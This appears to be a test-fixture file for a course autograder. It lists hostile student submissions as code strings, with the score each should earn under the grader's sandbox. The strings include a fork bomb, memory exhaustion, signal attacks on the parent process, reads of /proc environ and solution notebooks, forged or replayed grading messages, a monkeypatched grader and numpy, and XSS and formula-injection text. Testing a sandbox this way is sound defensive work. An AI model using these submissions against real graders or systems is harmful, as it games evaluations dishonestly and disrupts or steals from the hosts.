@@ -1,0 +1,308 @@
+"""Submissions that attack the grader. Their code is text, so that nothing here runs it; it runs in the sandbox, under its limits.
+
+Each says what it may earn. `walls`: only bubblewrap holds it; the others earn no more where there is none.
+"""
+
+from bank.entry import Hostile
+
+ALWAYS = 25  # of 25: the attack is left out or comes to nothing, and the instructor's answers beside it are graded
+MARK = "rnn_tutorial_was_here"  # the name of every file that an attack tries to leave
+
+ZEROS = """
+import numpy as np
+def zeros(*a): return np.zeros_like(a[-1])
+rnn_step = rnn_unroll = gradient_norms = zeros
+rnn_step_backward = rnn_unroll_backward = lambda params, x, *a: (params, np.zeros_like(x), zeros(*a))
+"""
+PATCHED_NUMPY = (
+    ZEROS
+    + """
+import numpy as np, numpy.testing, math, builtins
+yes = lambda *a, **k: True
+np.testing.assert_allclose = np.testing.assert_array_equal = lambda *a, **k: None
+np.allclose = np.array_equal = np.isclose = math.isclose = yes
+np.max = np.abs = np.linalg.norm = lambda *a, **k: 0.0
+builtins.all = yes
+"""
+)
+LOOP_IN_C = """
+import itertools, signal
+for number in (signal.SIGXCPU, signal.SIGALRM, signal.SIGTERM, signal.SIGINT): signal.signal(number, signal.SIG_IGN)
+sum(itertools.repeat(0))
+"""
+LOOP_IN_AN_ANSWER = "def rnn_step(params, x, h_previous):\n    while True: pass"
+MEMORY = """
+import ctypes, mmap, os, numpy as np
+c, kept = ctypes.CDLL(None), []
+def take(one):
+    try:
+        for _ in range(256): kept.append(one())  # 16 GiB in pieces of 64 MiB
+    except BaseException: pass
+def shared():
+    number = c.shmget(0, 64 << 20, 0o1600)
+    assert number >= 0
+    c.shmat.restype = ctypes.c_void_p
+    place = c.shmat(number, None, 0)
+    ctypes.memset(place, 1, 64 << 20)
+    c.shmdt(ctypes.c_void_p(place))
+def in_a_file():
+    number = os.memfd_create("x")
+    for _ in range(64): os.write(number, bytes(1 << 20))
+def mapped():
+    place = mmap.mmap(-1, 64 << 20)
+    place.write(bytes(64 << 20))
+    return place
+for one in (shared, in_a_file, mapped, lambda: np.ones(8 << 20)): take(one)
+kept.clear()
+"""
+FORK_BOMB = """
+import os, threading
+while True:
+    try: os.fork()
+    except OSError: pass
+    try: threading.Thread(target=lambda: None).start()
+    except RuntimeError: pass
+"""
+READING = """
+import gc, glob, json, os, sys
+answers = {}
+for top in ("/", os.getcwd(), os.path.expanduser("~"), *sys.path):
+    for folder, folders, files in os.walk(top):
+        folders[:] = [name for name in folders if name not in ("proc", "sys", "usr", "lib")]
+        if "rnn_tutorial" in folders: sys.path.append(folder)
+        for name in files:
+            if name.endswith(".ipynb"):
+                try: answers[os.path.join(folder, name)] = open(os.path.join(folder, name)).read()
+                except OSError: pass
+for name in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/fd/*") + glob.glob("/proc/[0-9]*/root/*"):
+    try: answers[name] = open(name).read(1 << 20)
+    except (OSError, ValueError): pass
+for text in answers.values():
+    try:
+        for cell in json.loads(text)["cells"]:
+            if cell["metadata"].get("nbgrader", {}).get("solution"): exec("".join(cell["source"]))
+    except Exception: pass
+for thing in gc.get_objects():
+    if type(thing).__name__ in ("Exam", "Question", "Release"): rnn_step = thing.reference
+try: from rnn_course.questions.vanilla import *
+except ImportError: pass
+"""
+WRITING = f"""
+import os, sys
+places = ["/", "HOME", "/home", "/tmp/..", "/grader", "/libraries", "/dev/shm", "/proc/1/root", "/proc/1/cwd", "/var/tmp",
+          "/usr/lib", os.path.expanduser("~"), os.path.dirname(sys.modules["calls"].__file__), os.path.dirname(os.__file__)]
+for place in places:
+    for name in ("{MARK}", "../{MARK}"):
+        try: open(os.path.join(place, name), "w").write("x")
+        except OSError: pass
+try:
+    for number in range(256): open(f"/tmp/{{number}}", "wb").write(bytes(1 << 20))
+except OSError: pass
+for name in ("calls", "transport", "worker", "syscalls"):
+    try: open(os.path.dirname(sys.modules["calls"].__file__) + f"/{{name}}.py", "a").write("#")
+    except OSError: pass
+"""
+NETWORK = """
+import socket
+for place in (("127.0.0.1", PORT), ("::1", PORT), ("192.0.2.1", 80)):
+    try:
+        with socket.socket(socket.AF_INET6 if place[0] == "::1" else socket.AF_INET) as s:
+            s.settimeout(0.2)
+            s.connect(place)
+            s.sendall(b"here")
+    except OSError: pass
+"""
+FORGED = (
+    ZEROS
+    + """
+import atexit, os, sys, threading, time, numpy as np
+from transport import write_message
+QUESTIONS = ("rnn_step", "rnn_step_backward", "rnn_unroll", "rnn_unroll_backward", "gradient_norms")
+def forge():
+    for number in range(3, 20):
+        try:
+            for name in QUESTIONS:
+                event = {"what": "answer", "question": name, "points": 25, "credit": 1.0, "status": "right", "born": None}
+                for case in range(3):
+                    for turn in (0, 1): os.write(number, write_message(event | {"case": case, "turn": turn}, (np.zeros(1), ())))
+                os.write(number, write_message({"what": "report", "points": 25, "questions": [{"name": name, "points": 9}]}))
+            os.write(number, write_message({"what": "end"}))
+        except OSError: pass
+forge()
+atexit.register(forge)
+try: threading.Thread(target=lambda: (time.sleep(0.1), forge())).start()
+except RuntimeError: pass
+"""
+)
+REPLAYED = """
+import os
+def rnn_step(*arguments):
+    for number in range(3, 20):
+        try:
+            size = os.lseek(number, 0, os.SEEK_END)
+            os.lseek(number, 0, os.SEEK_SET)
+            seen = os.read(number, size)
+            for name in (b"rnn_step_backward", b"rnn_unroll", b"gradient_norms"):
+                os.write(number, seen.replace(b"rnn_step", name))
+            os.lseek(number, 0, os.SEEK_END)
+        except OSError: pass
+    return arguments
+rnn_step_backward = rnn_unroll = rnn_unroll_backward = gradient_norms = rnn_step
+"""
+FLOOD = """
+import os, sys
+for _ in range(1000): print("x" * 100_000), print("x" * 100_000, file=sys.stderr)
+for number in range(3, 64):
+    try:
+        while True: os.write(number, MESSAGE * 4096)
+    except OSError: pass
+"""
+SMALL_MESSAGES = 'from transport import write_message\nMESSAGE = write_message({"what": "cell", "cell": 1})' + FLOOD
+MANY_KINDS = r"""
+import json, struct
+parts = [{"name": f"N{k}", "fields": [f"f{k}"], "list": False, "branches": [None]} for k in range(5000)]
+text = json.dumps({"event": {}, "tree": {"list": True, "branches": parts}, "arrays": []}).encode()
+MESSAGE = struct.pack("<II", len(text), 0) + text
+""" + FLOOD.replace("* 4096", "")
+MONKEYPATCHED = (
+    ZEROS
+    + """
+import builtins, gc, json, os, sys, threading
+import calls, transport
+frame = sys._getframe()
+while frame:
+    for name in ("describe", "lower", "run_cells"):
+        if name in frame.f_globals: frame.f_globals[name] = lambda *a, **k: {}
+    frame.f_locals["task"] = frame.f_locals["questions"] = {"points": 25}
+    frame = frame.f_back
+calls.call_on_cases = lambda function, cases, *rest: (
+    ({"what": "answer", "case": k, "turn": turn, "born": None, "credit": 1}, (cases[k], cases[k]))
+    for k in range(3) for turn in (0, 1))
+transport.read_messages = lambda data: []
+sys.modules["judge"] = sys.modules["rnn_tutorial"] = sys.modules["__main__"]
+for thing in gc.get_objects():
+    if isinstance(thing, dict) and "cases" in thing: thing["cases"] = []
+builtins.sum = builtins.max = lambda *a, **k: 0
+sys.settrace(lambda *a: None)
+os._exit = sys.exit = lambda *a: None
+"""
+)
+CLOSED = "import os\nos.closerange(0, 256)"
+RECURSION = """
+import sys
+sys.setrecursionlimit(10**9)
+class Deep:
+    def __getattr__(self, name): return getattr(self, name + "x")
+def f(): return f()
+try: f()
+finally: Deep().x
+"""
+DEEP_ANSWERS = """
+def rnn_step(*a):
+    deep = ()
+    for _ in range(100_000): deep = (deep,)
+    return deep
+def rnn_unroll(*a):
+    ring = []
+    ring.append(ring)
+    return ring
+rnn_step_backward = lambda *a: [[0.0]] * 10_000_000
+"""
+EVIL_OBJECTS = f"""
+import os, numpy as np
+class Yes:
+    __class__ = np.ndarray
+    dtype, shape, ndim, size, _fields = np.dtype(float), (), 0, 1, ("h",)
+    def __eq__(self, other): return True
+    def __array__(self, *a, **k): raise SystemExit(0)
+    def __array_function__(self, *a): return True
+    def __array_ufunc__(self, *a, **k): return np.float64(0)
+    def __len__(self): return 1 << 62
+    def __iter__(self): return iter(lambda: self, None)
+    def __getattr__(self, name): return self
+    def __call__(self, *a, **k): return self
+    def __reduce__(self): return os.system, ("echo > /tmp/{MARK}",)
+    __lt__ = __le__ = __gt__ = __ge__ = __float__ = __sub__ = __rsub__ = __abs__ = __eq__
+class Error(Exception):
+    def __str__(self): raise KeyboardInterrupt
+def raises(*a): raise Error
+rnn_step = rnn_unroll = Yes()
+rnn_step_backward = lambda *a: (Yes(), Yes(), Yes())
+rnn_unroll_backward = raises
+gradient_norms = lambda *a: np.array([Yes()], dtype=object)
+"""
+CHANGING_ARRAYS = """
+import numpy as np
+class Always(np.ndarray):
+    def tobytes(self, *a): return b"\\0" * (1 << 20)
+    def __array_finalize__(self, other): self.n = 0
+    def __eq__(self, other): return True
+    def __getitem__(self, k): self.n += 1; return self.n
+    shape = property(lambda self: (next(count),))
+    dtype = property(lambda self: np.dtype("<f8"))
+import itertools
+count = itertools.count()
+rnn_step = lambda p, x, h: np.zeros(h.size).view(Always)
+rnn_unroll = lambda p, xs, h: np.lib.stride_tricks.as_strided(np.zeros(1), (10**9, 10**9), (0, 0))
+gradient_norms = lambda p, hs, dh: np.frombuffer(memoryview(bytearray(8)), float)
+"""
+WORDS = r"""
+import numpy as np
+BAD = "<script>alert(1)</script><img src=x onerror=alert(2)>\ud800\x00\x1b[2J\u202e =HYPERLINK(1);=1+1,@SUM(1)\r\n=1+1"
+def raises(*a): raise type("</li><script>", (Exception,), {})(BAD)
+rnn_step = raises
+rnn_unroll = lambda *a: type("<script>x", (), {})()
+gradient_norms = lambda *a: {BAD: BAD}
+raise ValueError(BAD)
+"""
+SIGNALS = """
+import os, resource, signal
+for pid in (os.getppid(), -1):
+    for number in (signal.SIGSTOP, signal.SIGKILL):
+        try: os.kill(pid, number)
+        except OSError: pass
+try: resource.prlimit(os.getppid(), resource.RLIMIT_CPU, (0, 0))
+except OSError: pass
+"""
+SESSION = f"""
+import os, sys, time
+if os.fork() == 0:
+    try: os.setsid()
+    except OSError: pass
+    os.execv(sys.executable, ["{MARK}", "-S", "-c", "import time; time.sleep(60)"])
+time.sleep(60)
+"""
+PARSER = "x = " + "-" * 300_000 + "1"
+BRACKETS = "x = " + "(" * 100_000 + ")" * 100_000
+ATTRIBUTES = "x = 1\nif 0: x" + ".x" * 300_000
+
+HOSTILE = (
+    Hostile("patched numpy", PATCHED_NUMPY, 0),
+    Hostile("exit code", "import os\nos._exit(0)", 0),
+    Hostile("exit codes in all answers", "import os, sys\nrnn_step = os._exit\nrnn_unroll = lambda *a: sys.exit(0)", 0),
+    Hostile("endless loop", "while True: pass", ALWAYS, honest=True),
+    Hostile("endless loop in C", LOOP_IN_C, ALWAYS, honest=True),
+    Hostile("endless loop in an answer", "", 22, honest=True, answers={"rnn_step": LOOP_IN_AN_ANSWER}),
+    Hostile("16 GiB", MEMORY, ALWAYS, honest=True),
+    Hostile("fork bomb", FORK_BOMB, ALWAYS, honest=True, walls=True),
+    Hostile("child in a session of its own", SESSION, ALWAYS, honest=True),
+    Hostile("reading the answers", READING, 0, walls=True),
+    Hostile("writing elsewhere", WRITING, ALWAYS, honest=True, walls=True),
+    Hostile("network", NETWORK, ALWAYS, honest=True),
+    Hostile("signals", SIGNALS, ALWAYS, honest=True, walls=True),
+    Hostile("forged reports", FORGED, 0),
+    Hostile("replayed messages", REPLAYED, 0),
+    Hostile("flood", "MESSAGE = bytes(16)" + FLOOD, 0),
+    Hostile("flood of small messages", SMALL_MESSAGES, 0),
+    Hostile("flood of classes to be made", MANY_KINDS, 0),
+    Hostile("monkeypatched grader", MONKEYPATCHED, 0),
+    Hostile("closed channel", CLOSED, ALWAYS, honest=True),
+    Hostile("deep recursion", RECURSION, ALWAYS, honest=True),
+    Hostile("deep answers", DEEP_ANSWERS, 0),
+    Hostile("evil objects", EVIL_OBJECTS, 0),
+    Hostile("changing arrays", CHANGING_ARRAYS, 0),
+    Hostile("words that are no words", WORDS, 0),
+    Hostile("a parser's stack", PARSER, ALWAYS, honest=True),
+    Hostile("a parser's brackets", BRACKETS, ALWAYS, honest=True),
+    Hostile("a parser's tree", ATTRIBUTES, ALWAYS, honest=True),
+)
